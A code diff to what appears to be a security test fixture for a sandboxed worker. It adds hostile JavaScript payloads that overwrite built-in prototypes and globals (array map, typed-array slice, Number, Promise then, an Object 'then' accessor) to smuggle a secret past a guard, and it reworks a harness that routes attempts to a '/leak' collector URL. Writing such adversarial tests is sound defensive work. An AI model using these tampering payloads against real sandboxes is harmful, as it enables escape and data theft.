@@ -60,14 +60,48 @@ export const answers = {
   'time that was measured': 'answer.outcome.value.milliseconds = secret; return answer',
 };
 
+/** Through the guard's own code, which runs in the same realm: by changing the language that it is written in. */
+export const realm = {
+  'a method of lists': `const { map } = Array.prototype;
+    Array.prototype.map = function (...args) {
+      const list = map.apply(this, args);
+      return list[0]?.dims ? [all[0]] : list;
+    };
+    return answer`,
+  'a method of typed arrays': `const { data } = answer.outcome.value.outputs[0];
+    const room = new BigInt64Array(data.length + 1); room.set(data);
+    answer.outcome.value.outputs[0].data = room.subarray(0, data.length);
+    Object.getPrototypeOf(BigInt64Array.prototype).slice = () => all[0].data;
+    return answer`,
+  'a function of the language': `const genuine = Number;
+    class Extent { constructor(value) { this.note = secret; Object.defineProperty(this, 'valueOf', { value: () => value }); } }
+    globalThis.Number = Object.assign((value) => (value === 1 ? 1 : new Extent(value)), {
+      isInteger: () => true, isFinite: genuine.isFinite, isSafeInteger: genuine.isSafeInteger });
+    return answer`,
+  promises: `const { then } = Promise.prototype;
+    const taint = (value) => { if (value?.message) value.message.note = secret; return value; };
+    Object.defineProperty(Promise.prototype, 'constructor', { get: () => class {} });
+    Promise.prototype.then = function (done, failed) { return then.call(this, (value) => done(taint(value)), failed); };
+    return answer`,
+  'an accessor of every object': `Object.defineProperty(Object.prototype, 'then', {
+      get() { if (this.message && this.transfer) this.message.note = secret; return undefined; } });
+    return answer`,
+};
+
 const asFunction = (body) => `async (secret, url, answer, all) => {${body}}`;
 
 /**
- * The engine with the attempts in it, for the sealed worker. The first recording sets off those over network and storage; every
- * further one has one of the answers changed, in turn; then the first code is the number of attempts that were made.
+ * The engine with attempts in it, for the sealed worker. The first recording sets off the loud ones, over network and storage; every
+ * further one has one of the quiet ones, in turn, look after its answer; then the first code is the number of loud attempts that were made.
  * @param {string} engine text of sealed-engine.js @param {{ url: string, udp: string, reported: string }} collector
+ * @param {Record<string, string>} loudly @param {Record<string, string>} quietly
  */
-export function hostileEngine(engine, { url, udp, reported }) {
+export function hostileEngine(
+  engine,
+  { url, udp, reported },
+  loudly = { ...network, ...storage },
+  quietly = { ...answers, ...realm },
+) {
   const entries = (attempts) =>
     Object.entries(attempts).map(([name, body]) => {
       const address = `${url}/leak?attempt=${encodeURIComponent(name)}&d=`;
@@ -76,8 +110,8 @@ export function hostileEngine(engine, { url, udp, reported }) {
   return `'use strict';
 const udp = ${JSON.stringify(udp)};
 const reported = ${JSON.stringify(`${reported}?attempt=content%20security%20policy%20report&d=`)};
-const loud = [${[...entries(network), ...entries(storage)].join(',\n')}];
-const quiet = [${entries(answers).join(',\n')}];
+const loud = [${entries(loudly).join(',\n')}];
+const quiet = [${entries(quietly).join(',\n')}];
 let calls = 0;
 let ran = 0;
 ((edgySeal) => {${engine}
